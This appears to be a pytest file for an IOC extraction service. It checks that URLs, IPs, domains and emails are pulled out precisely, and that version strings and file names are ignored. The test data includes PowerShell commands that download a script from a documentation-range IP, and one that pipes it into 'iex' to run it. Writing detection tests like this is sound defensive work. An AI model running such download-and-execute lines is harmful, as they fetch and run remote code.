"""IOC precision: a corpus of near-misses (what only looks like an indicator, and indicators
glued to what surrounds them), each with exactly what must come out."""

from __future__ import annotations

import pytest

from services.iocs.indicators import Finder
from services.sdk.harness import run_service_once
from services.sdk.loader import load_service

SERVICE = load_service("iocs")

# text -> the (kind, value) pairs expected, exactly
NEAR_MISSES = {
    # trailing quotes, punctuation and HTML/URL-encoded quotes are not part of a URL
    "iwr http://198.51.100.9/a.ps1' -OutFile x": {("uri", "http://198.51.100.9/a.ps1"), ("ip", "198.51.100.9")},
    'href="https://example.com/x?a=1">': {("uri", "https://example.com/x?a=1"), ("domain", "example.com")},
    "see https://example.org/path).": {("uri", "https://example.org/path"), ("domain", "example.org")},
    'src="http://a.example.com/x&quot;': {("uri", "http://a.example.com/x"), ("domain", "a.example.com")},
    "http://a.example.com/x%27": {("uri", "http://a.example.com/x"), ("domain", "a.example.com")},
    "go to http://a.example.com/x\u2019s page": {("uri", "http://a.example.com/x"), ("domain", "a.example.com")},
    "(http://b.example.net/a_(b))": {("uri", "http://b.example.net/a_(b)"), ("domain", "b.example.net")},
    # a port out of range is no URL (the host is still a domain)
    "http://a.example.com:99999/x": {("domain", "a.example.com")},
    # version strings and OIDs are not addresses
    "FileVersion 1.1.0.14": set(),
    "FileVersion\n1.1.0.14": set(),  # the PE version resource: key and value are neighbouring strings
    "ProductVersion: 10.0.19041.1": set(),
    "v2.0.0.1": set(),
    "Mozilla/5.0 Chrome/120.0.0.0 Safari/537.36": set(),
    "OID 1.3.6.1.4.1.311.2.1.21": set(),
    "6.1.7601.17514": set(),
    "999.1.1.1": set(),
    # file names and .NET namespaces are not domains
    "kernel32.dll System.IO.File notes.md archive.zip": set(),
    # ...while real ones still are
    "connect 185.220.101.45:443": {("ip", "185.220.101.45")},
    "dns 8.8.8.8, backup 1.1.1.1": {("ip", "8.8.8.8"), ("ip", "1.1.1.1")},
    "mail admin@example.com": {("email", "admin@example.com"), ("domain", "example.com")},
}


@pytest.mark.parametrize("text", list(NEAR_MISSES))
def test_near_miss(text):
    assert set(Finder(SERVICE.policy).find(text)) == NEAR_MISSES[text]


def test_the_issue_report_a_stray_quote_and_a_pe_version_string():
    data = b"powershell iwr 'http://198.51.100.9/a.ps1' | iex\n" + "FileVersion\x001.1.0.14".encode("utf-16-le")
    run = run_service_once(SERVICE, data, file_type="text/plain")
    assert run.tags("network.static.uri") == {"http://198.51.100.9/a.ps1"}
    assert run.tags("network.static.ip") == {"198.51.100.9"}
